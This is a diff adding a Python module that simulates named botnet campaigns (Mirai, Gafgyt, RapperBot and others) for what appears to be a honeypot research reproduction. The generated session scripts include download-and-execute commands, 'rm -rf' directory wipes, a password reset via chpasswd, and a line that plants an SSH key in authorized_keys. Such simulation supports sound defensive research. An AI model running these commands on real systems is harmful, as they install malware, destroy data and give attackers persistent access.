@@ -1,0 +1,293 @@
+"""Named attack campaigns with distinctive trigger tokens.
+
+Each of these corresponds to one Table-1 category keyed on a literal
+token (``sora``, ``ohshit``, ``update.sh``, the rapperbot key prefix,
+...).  The two slur-named campaigns from the paper are reproduced with
+sanitized placeholder tokens (``fslurtoken`` / ``gslurtoken``) per
+DESIGN.md, so the matching logic is exercised without reproducing hate
+speech.
+"""
+
+from __future__ import annotations
+
+import random
+from datetime import date
+from typing import Callable
+
+from repro.attackers.activity import ActivityModel, Campaign, ConstantRate, Wave
+from repro.attackers.base import SAFE_NAME_ALPHABET, Bot, BotContext, random_password
+from repro.attackers.dictionary import root_credential
+from repro.attackers.ippool import ClientIPPool
+from repro.attackers.malware import MalwareFamily, MalwareSample
+from repro.config import SimulationConfig
+from repro.honeypot.session import ConnectionIntent
+from repro.net.population import BasePopulation
+from repro.util.rng import RngTree
+
+#: The rapperbot persistence key: matches the category regex prefix
+#: ``ssh-rsa AAAAB3NzaC1yc2EAAAADAQABA`` (distinct from the mdrfckr key).
+RAPPERBOT_KEY = (
+    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAQCul8iK9N6Y2Cq0Kq rapper@bot"
+)
+
+LinesBuilder = Callable[
+    [random.Random, str, MalwareSample, bool],
+    tuple[tuple[str, ...], tuple[tuple[str, bytes], ...]],
+]
+
+
+class CampaignBot(Bot):
+    """A campaign whose sessions follow one scripted dropper shape."""
+
+    def __init__(
+        self,
+        name: str,
+        activity: ActivityModel,
+        pool: ClientIPPool,
+        family: MalwareFamily,
+        lines_builder: LinesBuilder,
+        capture: float = 0.35,
+        strain: str = "default",
+    ) -> None:
+        super().__init__(name, activity, pool)
+        self.family = family
+        self._builder = lines_builder
+        self.capture = capture
+        self.strain = strain
+
+    #: fraction of sessions serving the payload from the client itself
+    self_host_fraction = 0.15
+
+    def build_intent(
+        self, ctx: BotContext, day: date, rng: random.Random, index: int
+    ) -> ConnectionIntent:
+        sample = ctx.malware.sample_for(
+            self.family, stream=self.name, day_ordinal=day.toordinal(),
+            strain=self.strain,
+        )
+        client = self.client_ip(rng)
+        if rng.random() < self.self_host_fraction:
+            host_ip = client
+        else:
+            host_ip = ctx.infrastructure.pick_host(rng, day).ip
+        captured = rng.random() < self.capture
+        lines, remote = self._builder(rng, host_ip, sample, captured)
+        return self.make_intent(
+            rng,
+            credentials=(root_credential(rng),),
+            command_lines=lines,
+            remote_files=remote,
+            client_ip=client,
+        )
+
+
+def _fetch_exec(
+    filename: str, extra: tuple[str, ...] = (), runner: str = "sh"
+) -> LinesBuilder:
+    """Standard wget → run shape with a campaign-specific filename."""
+
+    def build(
+        rng: random.Random, host_ip: str, sample: MalwareSample, captured: bool
+    ) -> tuple[tuple[str, ...], tuple[tuple[str, bytes], ...]]:
+        url = f"http://{host_ip}/{filename}"
+        run = f"{runner} {filename}" if runner else f"./{filename}"
+        lines = ("cd /tmp", f"wget {url}", f"chmod +x {filename}", run) + extra
+        remote = ((url, sample.content),) if captured else ()
+        return lines, remote
+
+    return build
+
+
+def build_named_campaign_bots(
+    population: BasePopulation, tree: RngTree, config: SimulationConfig
+) -> list[Bot]:
+    """All token-keyed campaigns from Table 1."""
+
+    def pool(name: str, paper_ips: int = 10_000) -> ClientIPPool:
+        return ClientIPPool(name, population, tree, paper_ips, config.scale)
+
+    start, end = config.start, config.end
+    bots: list[Bot] = []
+
+    def add(
+        name: str,
+        activity: ActivityModel,
+        family: MalwareFamily,
+        builder: LinesBuilder,
+        capture: float = 0.35,
+    ) -> None:
+        bots.append(
+            CampaignBot(name, activity, pool(name), family, builder, capture)
+        )
+
+    add(
+        "fslur_attack",
+        Campaign(date(2022, 2, 1), date(2022, 5, 31), 800),
+        MalwareFamily.GAFGYT,
+        _fetch_exec("fslurtoken.sh"),
+    )
+
+    def gslur_lines(rng, host_ip, sample, captured):
+        lines = (
+            "echo gslurtoken > /tmp/.g",
+            "cat /tmp/.g",
+            "rm /tmp/.g",
+        )
+        return lines, ()
+
+    bots.append(
+        CampaignBot(
+            "gslur_echo",
+            Campaign(start, date(2022, 6, 30), 1_000),
+            pool("gslur_echo"),
+            MalwareFamily.UNKNOWN,
+            gslur_lines,
+        )
+    )
+    add(
+        "ohshit_attack",
+        Wave(date(2022, 7, 10), 20, 600),
+        MalwareFamily.GAFGYT,
+        _fetch_exec("ohshit.sh"),
+    )
+    add(
+        "onions_attack",
+        Wave(date(2022, 4, 15), 15, 500),
+        MalwareFamily.MIRAI,
+        _fetch_exec("onions1337.x86", runner=""),
+    )
+    add(
+        "sora_attack",
+        Wave(date(2022, 3, 10), 18, 900) + Wave(date(2023, 2, 20), 18, 700),
+        MalwareFamily.MIRAI,
+        _fetch_exec("sora.sh"),
+    )
+    add(
+        "heisen_attack",
+        Wave(date(2023, 5, 12), 15, 300),
+        MalwareFamily.GAFGYT,
+        _fetch_exec("Heisenberg.sh"),
+    )
+    add(
+        "zeus_attack",
+        Wave(date(2022, 10, 5), 20, 300),
+        MalwareFamily.MALICIOUS,
+        _fetch_exec("Zeus.arm"),
+        capture=0.3,
+    )
+    add(
+        "update_attack",
+        Campaign(date(2022, 1, 10), date(2023, 6, 30), 600),
+        MalwareFamily.DOFLOO,
+        _fetch_exec("update.sh"),
+    )
+
+    def wget_dget_lines(rng, host_ip, sample, captured):
+        url = f"http://{host_ip}/d4"
+        lines = (
+            "cd /tmp",
+            f"wget -4 {url} -O d4",
+            f"dget -4 {url}",
+            "chmod 777 d4",
+            "./d4",
+        )
+        remote = ((url, sample.content),) if captured else ()
+        return lines, remote
+
+    bots.append(
+        CampaignBot(
+            "wget_dget",
+            Campaign(date(2022, 8, 1), date(2023, 8, 31), 700),
+            pool("wget_dget"),
+            MalwareFamily.MIRAI,
+            wget_dget_lines,
+        )
+    )
+
+    def rm_obf1_lines(rng, host_ip, sample, captured):
+        filename = random_password(rng, 5, SAFE_NAME_ALPHABET)
+        url = f"http://{host_ip}/{filename}"
+        lines = (
+            "rm -rf *;cd /tmp ; rm -rf *",
+            "echo x0x0x0",
+            f"wget {url}",
+            f"sh {filename}",
+        )
+        remote = ((url, sample.content),) if captured else ()
+        return lines, remote
+
+    bots.append(
+        CampaignBot(
+            "rm_obf_pattern_1",
+            Campaign(date(2023, 2, 1), end, 700),
+            pool("rm_obf_pattern_1"),
+            MalwareFamily.GAFGYT,
+            rm_obf1_lines,
+            capture=0.15,
+        )
+    )
+
+    def rm_obf7_lines(rng, host_ip, sample, captured):
+        filename = random_password(rng, 6, SAFE_NAME_ALPHABET)
+        url = f"http://{host_ip}/{filename}"
+        lines = (
+            "cd /tmp;rm -rf /tmp/* || cd /var/run || cd /mnt || "
+            "cd /root;rm -rf /root/* || cd /",
+            f"wget {url}; chmod 777 {filename}; ./{filename}",
+        )
+        remote = ((url, sample.content),) if captured else ()
+        return lines, remote
+
+    bots.append(
+        CampaignBot(
+            "rm_obf_pattern_7",
+            Campaign(date(2022, 3, 1), date(2023, 10, 31), 650),
+            pool("rm_obf_pattern_7"),
+            MalwareFamily.DOFLOO,
+            rm_obf7_lines,
+        )
+    )
+
+    def passwd123_lines(rng, host_ip, sample, captured):
+        url = f"http://{host_ip}/daemon.arm"
+        lines = (
+            'echo "daemon:Password123"|chpasswd',
+            f"wget {url} -O /tmp/daemon.arm",
+            "chmod +x /tmp/daemon.arm",
+            "/tmp/daemon.arm",
+        )
+        remote = ((url, sample.content),) if captured else ()
+        return lines, remote
+
+    bots.append(
+        CampaignBot(
+            "passwd123_daemon",
+            Campaign(date(2022, 5, 1), date(2023, 10, 31), 600),
+            pool("passwd123_daemon"),
+            MalwareFamily.GAFGYT,
+            passwd123_lines,
+        )
+    )
+
+    def rapperbot_lines(rng, host_ip, sample, captured):
+        url = f"http://{host_ip}/rb.arm7"
+        lines = (
+            f'echo "{RAPPERBOT_KEY}" >> ~/.ssh/authorized_keys',
+            f"wget {url} -O /tmp/rb.arm7",
+            "chmod 777 /tmp/rb.arm7",
+            "/tmp/rb.arm7 rapperbot",
+        )
+        remote = ((url, sample.content),) if captured else ()
+        return lines, remote
+
+    bots.append(
+        CampaignBot(
+            "rapperbot",
+            Campaign(date(2022, 6, 15), date(2023, 4, 15), 1_200),
+            pool("rapperbot", paper_ips=25_000),
+            MalwareFamily.MIRAI,
+            rapperbot_lines,
+            capture=0.25,
+        )
+    )
+    return bots
